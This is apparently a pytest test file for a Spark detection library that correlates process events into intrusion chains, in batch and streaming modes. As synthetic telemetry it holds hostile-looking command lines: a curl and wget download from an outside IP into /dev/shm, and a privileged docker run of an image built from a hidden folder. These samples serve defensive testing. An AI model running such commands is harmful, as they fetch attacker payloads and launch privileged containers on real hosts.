"""Chains by Spark, of a batch and of a stream, are those of the library on the same events."""

from __future__ import annotations

import json
import sys
from collections import Counter
from collections.abc import Iterable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from pyspark.sql import DataFrame, SparkSession
from t1612_spark import TOLD, correlate_batch, correlate_stream, latest, score
from t1612_spark.chains import restored
from t1612_spark.detectors import pack
from t1612_spark.observing import _observed

from t1612core import SCHEMAS, Detector, SnapshotError
from t1612core.correlation import Settings, passed, step
from t1612core.incident import final
from t1612core.output import timeline

from . import events
from .conftest import EVENTS, Frame

WINDOW = timedelta(hours=2)
Told = dict[str, dict[str, Any]]


def in_process(made: list[events.Event], schema: str) -> Told:
    """Give what the library makes of all acts at once."""
    decoded = (json.loads(line) for line in events.lines(made, schema))
    found = Detector(schema=SCHEMAS[schema]).correlate(decoded, window=WINDOW)
    return {each.id: timeline.to_mapping(each) for each in found}


def by_spark(told: DataFrame) -> Told:
    rows = latest(told).collect()
    return {row["id"]: json.loads(row["incident"]) for row in rows}


def counts(told: DataFrame) -> Counter[tuple[str, str]]:
    rows = told.where("told != 'incident'").collect()
    return sum((Counter({(row["told"], row["reason"]): row["count"]}) for row in rows), Counter())


@pytest.mark.parametrize("schema", events.SCHEMAS)
def test_a_batch_has_the_chains_of_the_library(frame: Frame, schema: str) -> None:
    made = events.acts(EVENTS, 200)
    expected = in_process(made, schema)
    assert len(expected) > EVENTS // 2000
    shuffled = events.shuffled(made)
    told = correlate_batch(
        frame(events.text_table(shuffled, schema)), schema=schema, text="value", window=WINDOW
    ).cache()

    assert expected == by_spark(told)
    assert {("read", None): len(made)} == counts(told)


def test_columns_have_the_chains_of_the_library(frame: Frame) -> None:
    made = events.acts(EVENTS, 200)
    told = correlate_batch(frame(events.mde_table(events.shuffled(made))), window=WINDOW).cache()

    assert in_process(made, "mde") == by_spark(told)
    assert {("read", None): len(made)} == counts(told)


def test_what_a_batch_leaves_unread_is_no_step() -> None:
    """All of a stream is read, so that it gives the steps that there are."""
    lines = (
        *(BUILD, RUN, "curl -o /dev/shm/x http://203.0.113.9/x", "/dev/shm/eng run -d agent:1"),
        *("wget http://203.0.113.9/Dockerfile", "curl http://localhost/", "/usr/bin/docker ps"),
    )
    odd = [act("a", n * 9.0, line) for n, line in enumerate(lines)]
    everyday = events.acts(6000, 60)
    made = [{**each, "number": n} for n, each in enumerate([*everyday, *odd, *everyday])]
    packed = pack("mde", "hardened", None)[1]
    as_lines = events.text_table(made, "mde")
    for text, table in (("", events.mde_table(made)), ("value", as_lines)):
        names = table.column_names
        read = {}
        for is_clocked in (False, True):
            given = iter(table.to_batches())
            (told,) = _observed(packed, text, names, is_clocked, given)
            read[is_clocked] = told.drop_columns("clock").to_pylist()
        assert read[True] == read[False]
        told_of = [str(each["step"]) for each in read[False]]
        assert 1 == sum("/eng run" in each for each in told_of)
        assert 1 == sum("/dev/shm/x" in each for each in told_of)


def test_much_wrong_telemetry_is_told(frame: Frame) -> None:
    table = pa.table({"colour": ["red"] * 2000, "FileName": pa.nulls(2000, pa.string())})
    found = counts(correlate_batch(frame(table)))

    assert 2000 == found.pop(("read", None))
    assert {"unrecognised"} == {told for told, _ in found}
    assert 2000 == sum(found.values())


class Streamed:
    """A stream over a folder of lines, which is run over what is there, and goes on later."""

    def __init__(self, spark: SparkSession, folder: Path, schema: str = "ecs") -> None:
        self.spark, self.folder, self.schema = spark, folder, schema
        self.files = 0
        (folder / "in").mkdir(parents=True)

    def add(self, made: Iterable[events.Event]) -> None:
        path = self.folder / "in" / f"{self.files:04}.jsonl"
        self.files += 1
        path.write_text("\n".join(events.lines(made, self.schema)), "utf-8")

    def run(self, **options: Any) -> None:
        given = self.spark.readStream.option("maxFilesPerTrigger", 1).text(str(self.folder / "in"))
        options = {"schema": self.schema, "text": "value", "window": WINDOW} | options
        query = (
            correlate_stream(given, **options)
            .writeStream.format("parquet")
            .option("path", str(self.folder / "out"))
            .option("checkpointLocation", str(self.folder / "checkpoint"))
            .trigger(availableNow=True)
            .start()
        )
        query.awaitTermination()

    @property
    def told(self) -> DataFrame:
        return self.spark.read.schema(TOLD).parquet(str(self.folder / "out"))


def parted(made: list[events.Event], parts: int) -> list[list[events.Event]]:
    size = -(-len(made) // parts)
    return [made[at : at + size] for at in range(0, len(made), size)]


def later(hours: float) -> list[events.Event]:
    """Give everyday acts of two hosts, by which all that came before is over."""
    return [
        {**events.acts(1, 1)[0], "host": f"quiet-{n}", "second": hours * 3600.0} for n in range(2)
    ]


@pytest.mark.parametrize("schema", events.SCHEMAS)
def test_a_stream_has_the_chains_of_the_library(
    spark: SparkSession, tmp_path: Path, schema: str
) -> None:
    made = events.acts(EVENTS, 200)
    stream = Streamed(spark, tmp_path, schema)
    for part in parted(made, 3):
        stream.add(events.shuffled(part))
    # Within a part they are out of order by up to two hours.
    stream.add(later(48))
    stream.run(watermark=timedelta(hours=2))

    assert in_process(made, schema) == by_spark(stream.told)
    assert {("read", None): len(made) + 2} == counts(stream.told)


def act(host: str, second: float, line: str) -> events.Event:
    """Give what an intruder's shell starts."""
    told = {"parent": "sh", "parent_line": "sh -c x", "account": "www-data"}
    name = line.split()[0]
    return {"kind": "process", "host": host, "second": second, "name": name, "line": line, **told}


BUILD, RUN = "docker build -t agent:1 /dev/shm/.x", "docker run -d --privileged agent:1"


def test_a_stream_goes_on_and_loses_nothing_unsaid(spark: SparkSession, tmp_path: Path) -> None:
    numbered = iter(range(10**6))

    def acts(*made: events.Event) -> list[events.Event]:
        return [{**each, "number": next(numbered)} for each in made]

    stream = Streamed(spark, tmp_path)
    stream.add(
        acts(
            *[act("a", 0, BUILD), act("b", 5, BUILD), *later(0.01)],
            # Clocks that are wrong: no other chain is closed by them, nor judged.
            *[act("c", 3600 * 19.0, BUILD), act("d", 3600 * 24 * 365 * 90.0, BUILD)],
        )
    )
    stream.run()
    assert [] == stream.told.where("told = 'incident'").collect()

    stream.add(acts(*later(0.2)))
    stream.add(acts(*later(0.3)))
    stream.run()
    first = by_spark(stream.told)
    assert [("a", "build"), ("b", "build")] == verdicts(first)

    # Of a state that is restored; a host that is new may come late, what was judged may not.
    stream.add(acts(act("a", 1000, RUN), act("b", -9, BUILD), act("e", 1, BUILD), act("e", 2, RUN)))
    stream.add(acts(*later(0.7)))
    stream.add(acts(*later(0.8)))
    stream.run()
    told = by_spark(stream.told)
    deployed = [("a", "build-then-deploy"), ("b", "build"), ("e", "build-then-deploy")]
    assert deployed == verdicts(told)
    assert first.keys() < told.keys()
    assert {("read", None): 18, ("lost", "late"): 1} == counts(stream.told)
    (lost,) = stream.told.where("told = 'lost'").collect()
    assert "b" == lost["host"]

    # What a sink that is written at least once holds twice is told once.
    assert told == by_spark(stream.told.union(stream.told))


def test_what_has_no_time_does_not_move_the_time(spark: SparkSession, tmp_path: Path) -> None:
    """What has no time is as old as what came before it; the events after it are not late."""
    stream = Streamed(spark, tmp_path)
    stream.add([{**act("a", 0, BUILD), "number": 1}])
    stream.add([])
    timeless = [events.ecs({**act("t", 0, line), "number": 9}) for line in ("ls", BUILD)]
    for each in timeless:
        del each["@timestamp"]
    garbage = [*[{"colour": "red"}] * 3, *timeless]
    (tmp_path / "in" / "0001.jsonl").write_text("\n".join(map(json.dumps, garbage)), "utf-8")
    stream.add([{**act("a", 9, RUN), "number": 2}])
    # The last ones have the years 1 and 9999, which end nothing.
    stream.add([{**act("b", 0, BUILD), "number": 3}, *later(1)])
    odd = [
        line.replace("2026-03-02", year)
        for line, year in zip(
            events.lines([{**act(host, 0, BUILD), "number": 4} for host in "cd"], "ecs"),
            ("0001-01-02", "9999-12-31"),
            strict=True,
        )
    ]
    (tmp_path / "in" / "0004.jsonl").write_text("\n".join(odd), "utf-8")
    stream.run()

    told = verdicts(by_spark(stream.told))
    assert ("a", "build-then-deploy") in told
    assert [("b", "build")] == [each for each in told if each[0] == "b"]
    found = counts(stream.told)
    assert ("lost", "late") not in found
    assert (12, 1) == (found["read", None], found["lost", "no_time"])


def verdicts(told: Told) -> list[tuple[str, str]]:
    return sorted((each["host"], each["verdict"]) for each in told.values())


STATE = Path(__file__).parent / "state-1.json"


def test_a_state_of_each_version_is_gone_on_with() -> None:
    """The file was written by version 1, and stays as it is."""
    settings = Settings(timedelta(hours=24), timedelta(minutes=5))
    state = restored(1, STATE.read_text("utf-8"), settings)
    assert "a" == state.host
    (seen,) = Detector(schema=SCHEMAS["ecs"]).observe(
        events.ecs({**act("a", 900, RUN), "number": 7})
    )
    state, told = step(state, seen, settings)
    state, more = passed(state, None, settings)

    assert ["build-then-deploy", "build"] == [each.verdict for each in final([*told, *more])]


def test_a_state_that_cannot_be_read_is_refused() -> None:
    settings = Settings()
    with pytest.raises(SnapshotError, match="has version 99, and this release reads 1: take a"):
        restored(99, "{}", settings)
    with pytest.raises(SnapshotError, match="is missing"):
        restored(1, "{}", settings)


def test_what_cannot_be_read_is_told(frame: Frame) -> None:
    hit = events.ecs({**act("a", 0, BUILD), "number": 1})
    timeless = {name: value for name, value in hit.items() if name != "@timestamp"}
    rows = [json.dumps(hit), json.dumps(timeless), "{", None, '{"colour": "red"}', "<x"]
    table = pa.table({"value": rows})
    told = correlate_batch(frame(table), schema="ecs", text="value").cache()

    assert ["a"] == [each["host"] for each in by_spark(told).values()]
    found = counts(told)
    assert (6, 1) == (found["read", None], found["lost", "no_time"])
    assert 3 == sum(count for (outcome, _), count in found.items() if outcome == "rejected")
    assert 1 == sum(count for (outcome, _), count in found.items() if outcome == "unrecognised")
    assert ("rejected", "holds no text") in found


def test_times_are_the_same_in_every_zone(spark: SparkSession, frame: Frame) -> None:
    """Spark shows times in the session's zone; the instants are the events' own."""
    table = events.mde_table([{**act("a", 0, BUILD), "number": 1}])
    told = {}
    for zone in ("UTC", "America/New_York"):
        spark.conf.set("spark.sql.session.timeZone", zone)
        try:
            found = latest(correlate_batch(frame(table)))
            scored = score(frame(table)).selectExpr("unix_micros(t1612_time) at")
            told[zone] = (
                [each["at"] for each in scored.collect()],
                [tuple(row) for row in found.selectExpr("unix_micros(start)", "id").collect()],
            )
        finally:
            spark.conf.set("spark.sql.session.timeZone", "UTC")
    assert told["UTC"] == told["America/New_York"]
    start = round(events.START.timestamp() * 1e6)
    assert [start] == told["UTC"][0]
    assert [start] == [each[0] for each in told["UTC"][1]]


def test_a_protobuf_that_spark_cannot_use_is_said_at_once(
    spark: SparkSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It would end the query in its workers else."""
    monkeypatch.setitem(sys.modules, "pyspark.sql.streaming.proto.StateMessage_pb2", None)
    given = spark.readStream.text(str(tmp_path))

    with pytest.raises(ImportError, match=r"Spark 4\.\d\.\d cannot use the installed protobuf"):
        correlate_stream(given, text="value")
